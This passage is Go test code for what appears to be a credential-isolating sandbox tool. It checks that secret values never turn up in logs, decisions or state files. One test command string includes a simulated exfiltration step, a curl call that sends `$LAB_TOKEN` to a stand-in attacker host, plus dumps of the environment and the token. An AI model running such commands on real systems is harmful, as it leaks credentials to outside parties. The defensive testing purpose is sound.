	for _, flags := range [][]string{nil, {"--json"}} {
		cove(append([]string{"run", "bash", "--allow", "key.lab.test", "--credential", "lab", "-c",
			`curl -s -i --max-time 30 https://key.lab.test/mirror
curl -s -i --max-time 30 http://key.lab.test/mirror; curl -s -i --max-time 30 https://evil.lab/$LAB_TOKEN; curl -s -i -X TRACE --max-time 30 https://key.lab.test/mirror; env; echo "$LAB_TOKEN" >&2; false`}, flags...)...)
	}
	got := 0
	for _, r := range c.internet().Requests() {
		if r.Header.Get("Authorization") == "Bearer "+value {
			got++
		}
	}
	if got != 2 {
		c.Errorf("not tested: the value arrived %d times", got)
	}
	for _, args := range [][]string{{"audit", "--json"}, {"ps", "--all", "--json"}, {"network", "log", "--json"},
		{"config", "show"}, {"policy", "presets"}, {"ca", "list"},
		{"run", "bash", "--allow", "key.lab.test", "--credential", "lab", "--set", "gateway.credentials=" + os.DevNull,
			"-c", "true"}} {
		cove(args...)
	}
	if said < 5000 {
		c.Errorf("not tested: all commands have said %d bytes", said)
	}
}

// nothingWritten searches what has been written in the course of all rows. It is the last.
func nothingWritten(c *trial) {
	if len(c.suite.secrets) == 0 {
		c.lacking("no other row of S has run: there is no value to look for")
	}
	log := c.suite.online.Log()
	decisions, err := json.Marshal(c.suite.online.Decisions())
	if err != nil {
		c.Fatal("not tested: ", err)
	}
	if len(decisions) < 1000 {
		c.Errorf("not tested: there are %d bytes of decisions", len(decisions))
	}
	files := 0
	look := func(what, text string) {
		for _, value := range c.suite.secrets {
			if how := betrays(text, value); how != "" {
				c.Errorf("HOLE: a value is in %s, %s", what, how)
			}
		}
	}
	look("the log", log)
	look("a decision", string(decisions))
	for _, dir := range append(slices.Clone(c.suite.online.Dirs), c.suite.state) {
		eachFile(dir, func(path, content string) {
			files++
			look(path, content)
		})
	}
	if files == 0 {
		c.Error("not tested: there are no files")
	}
	c.remark("%d values, %d files, %d bytes of log, %d of decisions", len(c.suite.secrets), files, len(log),
		len(decisions))
}
